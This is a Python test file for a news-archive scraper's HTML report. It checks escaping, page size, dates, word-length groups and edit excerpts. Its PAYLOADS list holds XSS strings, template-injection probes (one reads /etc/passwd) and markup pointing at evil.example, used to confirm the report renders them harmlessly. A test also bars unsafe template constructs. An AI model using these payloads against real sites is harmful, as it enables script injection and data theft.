"""A report of hostile texts, and the largest one: what sites say stays text, and little of it."""

from __future__ import annotations

import time
import tomllib
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from archive.folder import Archive
from archive.jsonl import json_lines
from archive.jsonl.article_line import ArticleLine, make_line
from archive.jsonl.removals import Removal
from archive.jsonl.runs import Run
from archive.model import Article, Capture
from archive.outcomes import Flag, Verdict
from archive.select.edits import Edit
from archive.select.selection import Selection
from archive.text.diff import compare
from archive.writer.site_writer import SiteWriter
from scraper.console.terminal import safe_line
from scraper.report.facts import gathered
from scraper.report.lengths import TextLengths
from scraper.report.page import MOST_BYTES, report_page
from scraper.report.page_language import PageLanguage
from scraper.report.published import DayGap, PublishedDays
from scraper.report.shortened import Shortened
from scraper.report.shown_edits import ShownEdits, excerpt
from tests.archive.material import HOME, address, article, exchange
from tests.process import REPOSITORY
from tests.report_view import asked_for, found, need_chromium, seen, text_of

REPORT = REPOSITORY / "scraper" / "report"
PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</style><script>alert(1)</script>",
    "</title><iframe src=//evil.example></iframe>",
    "{{ 7*7 }}",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}",
    "\u202eنوشتهٔ وارونه\u2066",
    "<!-- --><base href=//evil.example>",
    "]]><math><mtext></mtext></math>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<\x00script\x1b[2J>",
    "<a href=javascript:alert(1)>اینجا</a>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "@import url(//evil.example); } body { display: none",
    "\u2028<form action=//evil.example><input name=a>",
    "javascript:alert(1)//<script>",
    "{# یادداشت #}{{ words }}",
)
TITLES = [
    f"{before}{payload}" for before in ("", "خبر ", "«", "\n", "x" * 20) for payload in PAYLOADS
]
BASE = datetime(2026, 11, 22, 8, 30, tzinfo=UTC)


def removal(name: str, number: int, url: str) -> Removal:
    evidence = {"file": url, "offset": 0, "length": 9, "record_id": url}
    return Removal(
        id=f"{name}/post/{number}",
        post_type="post",
        post_id=number,
        url=url,
        kind="erased",
        first_missed=BASE + timedelta(minutes=number),
        evidence=evidence,
    )


def archive_of(folder: Path, texts: list[str], sites: list[str]) -> Archive:
    """An archive in which all that a site may say is one of `texts`: an article of each in the
    first site, edited and then removed. The other sites have runs alone."""
    folder.mkdir()
    toml = [f'[sites.{name}]\nurl = "{HOME}{name}"\n' for name in sites]
    (folder / "sites.toml").write_text("".join(toml))
    archive = Archive(folder)
    first = archive.site(sites[0])
    for version in (0, 1):
        with SiteWriter(first) as writer:
            for number, text in enumerate(texts, 1):
                told = _article(number, texts[(number + version) % len(texts)], text)
                told = replace(told, flags=(Flag.SILENT_EDIT,) if version and number % 2 else ())
                writer.keep(address(number), told, writer.capture(exchange(number)))
    removals = [removal(sites[0], number, text) for number, text in enumerate(texts, 1)]
    json_lines.append(first.removals_ledger.path, [one.to_object() for one in removals])
    for name in sites:
        json_lines.append(archive.site(name).runs_path, list(_runs(name, texts)))
    return archive


def _article(number: int, title: str, text: str) -> Article:
    plain = article(number, f"{text} {title} {text}")
    return replace(
        plain,
        title=title,
        published=BASE - number * timedelta(days=3),
        source=f"{number} {text}",
        authors=(text,),
        language=text[:40],
    )


def _runs(name: str, texts: list[str]) -> Iterator[dict[str, Any]]:
    for number in range(80):
        started = BASE + timedelta(days=number)
        verdict = list(Verdict)[number % len(Verdict)]
        problems = texts[:10] if number == 79 else []
        run = Run(run="0" * 8, site=name, started=started, verdict=verdict, problems=problems)
        yield {**run.to_object(), "verdict": texts[0] if number == 79 else verdict}


def page_of(archive: Archive, language: str = "fa", title: str | None = None) -> str:
    facts = replace(gathered(archive, Selection()), title=title)
    return report_page(facts, PageLanguage(language), (f"--match {title}",) if title else ())


def test_hostile_texts_stay_texts(tmp_path: Path) -> None:
    need_chromium()
    assert len({*TITLES}) == 100
    tame = [f"خبر شمارهٔ {number}" for number in range(100)]
    expected = seen(page_of(archive_of(tmp_path / "tame", tame, ["khabar"]), "en", tame[0]))
    page = page_of(archive_of(tmp_path / "hostile", TITLES, ["khabar"]), "en", TITLES[3])
    shown = seen(page)
    assert asked_for(page) == ["/report.html"]
    assert (shown["scripts"], shown["direction"]) == (0, "ltr")
    assert {*shown["elements"]} <= {*expected["elements"], "del", "ins"}
    assert {*shown["attributes"]} <= {*expected["attributes"]}
    assert {link.partition("?")[0] for link in shown["links"]} == {HOME}
    assert shown["background"] == expected["background"]
    text = " ".join(shown["text"].split())
    for title in TITLES:
        assert " ".join(safe_line(title).split()) in text
    assert not any(sign in shown["text"] for sign in "\x00\x1b\u202e\u2066\u2028")


def test_the_largest_page_is_not_large(tmp_path: Path) -> None:
    """Every list is longer than the page shows, every text too, and every letter of it takes as
    many bytes as a letter can."""
    letters = "'" * 500
    texts = [f"{number}{letters} {letters}" for number in range(130)]
    archive = archive_of(tmp_path / "archive", texts, [f"site-{n}" for n in range(50)])
    page = page_of(archive, title=letters)
    assert len(page.encode()) <= MOST_BYTES
    told = text_of(found(page, "/html/body")[0])
    for more in ("و ۳۰ مورد دیگر", "و ۱۰ مورد دیگر", "و ۲۵ مورد دیگر", "و ۲۰ مورد دیگر"):
        # Of removals, sites' strips, edits of a kind, nights.
        assert more in told, more


@pytest.mark.parametrize("text", ["'" * 9_000, "یک " * 4_000, "دو\n\n" * 3_000, "سه چهار " * 9_000])
def test_a_text_that_takes_long_to_compare_is_not_compared(text: str) -> None:
    old = article_line(text)
    began = time.process_time()
    [shown] = ShownEdits.of([Edit(old, article_line(f"پنج {text} شش"))]).told.items
    assert (shown.words, shown.text) == (None, ())
    assert time.process_time() - began < 5


def article_line(text: str) -> ArticleLine:
    capture = Capture(file="x", offset=0, length=1, record_id="", payload_sha256="", date=BASE)
    return make_line("khabar", HOME, 1, article(1, text), capture, {})


def test_no_template_lets_a_text_pass_as_it_is() -> None:
    for path in REPORT.glob("*.html"):
        text = path.read_text()
        for barred in ("|safe", "| safe", "autoescape", "<script", "http:", "https:", "url("):
            assert barred not in text, (path, barred)


def test_both_languages_have_the_same_words() -> None:
    keys = [
        {(table, key) for table, inner in words.items() for key in inner if isinstance(inner, dict)}
        | {(key, "") for key, inner in words.items() if isinstance(inner, str)}
        for words in (tomllib.loads((REPORT / f"{code}.toml").read_text()) for code in ("fa", "en"))
    ]
    assert keys[0] == keys[1]
    for code in ("fa", "en"):
        assert {*PageLanguage(code).words["verdict"]} == {*Verdict}
        assert {*PageLanguage(code).words["kind"]} == {"erased", "unpublished", "redirected"}


def test_dates_and_numbers_of_a_language() -> None:
    fa, en = PageLanguage("fa"), PageLanguage("en")
    assert (fa.number(12345), en.number(12345)) == ("۱۲٬۳۴۵", "12,345")
    assert (fa.day("2025-11-20"), en.day("2025-11-20")) == ("۱۴۰۴/۰۸/۲۹", "2025-11-20")
    midnight = "2025-11-20T20:30:00Z"
    assert (fa.moment(midnight), en.moment(midnight)) == ("۱۴۰۴/۰۸/۳۰ ۰۰:۰۰", "2025-11-21 00:00")
    assert fa.day(date(600, 1, 1)) == "0600-01-01"


def test_dates_that_cannot_be_are_no_bars() -> None:
    """A site may date an article 1,400 years back, or a hundred ahead."""
    days = {date(622, 1, 1): 1, date(2026, 11, 20): 3, date(2026, 11, 22): 1, date(2126, 1, 1): 2}
    told = PublishedDays.of(days, 5, date(2026, 11, 23))
    assert (told.late, told.undated) == (2, 5)
    assert (told.by_day.before, told.by_month.before) == (1, 1)
    assert (told.by_day.bars[-1].name, len(told.by_day.bars)) == ("2026-11-22", 366)
    assert (told.by_month.bars[-1].name, len(told.by_month.bars)) == ("1405-09", 120)
    assert told.gaps.items == (DayGap(date(622, 1, 2), date(2026, 11, 19)),)


def test_days_before_the_first_article_are_no_gaps() -> None:
    told = PublishedDays.of({date(2026, 11, 20): 3, date(2026, 11, 22): 1}, 0, date(2026, 11, 23))
    assert (len(told.by_day.bars), told.by_day.empty) == (30, 1)
    assert (len(told.by_month.bars), told.by_month.empty) == (12, 0)
    assert PublishedDays.of({}, 0, date.max).by_day.bars == ()


def test_lengths_are_grouped_by_words() -> None:
    lengths = TextLengths()
    for words in (0, 49, 50, 99, 1599, 1600):
        lengths.see("می‌گوید " * words)
    assert [group.articles for group in lengths.groups()] == [2, 2, 0, 0, 0, 1, 1]
    assert (lengths.median, lengths.groups()[-1].most) == (50, None)
    assert (TextLengths().median, TextLengths().groups()) == (0, [])


@pytest.mark.parametrize("most", [0, 1, 3, 9])
def test_a_list_says_how_much_is_left_out(most: int) -> None:
    first, latest = Shortened.first("abcd", most), Shortened.latest("abcd", most)
    assert first.items == tuple("abcd"[:most])
    assert latest.items == tuple(reversed("abcd"[max(0, 4 - most) :]))
    assert first.count == latest.count == 4


def test_an_excerpt_has_the_change_and_some_words_around_it() -> None:
    words = [f"کلمه{number}" for number in range(40)]
    old, new = " ".join(words), " ".join([*words[:20], "دیگر", *words[21:]])
    told = "".join(f"[{piece.kind}]{piece.text}" for piece in excerpt(compare(old, new)))
    before, behind = " ".join(words[15:20]), " ".join(words[21:26])
    assert told == f"[same]… {before} [gone]{words[20]}[new]دیگر[same] {behind} … "
    assert list(excerpt(compare(old, old.replace("ک", "ك")))) == []
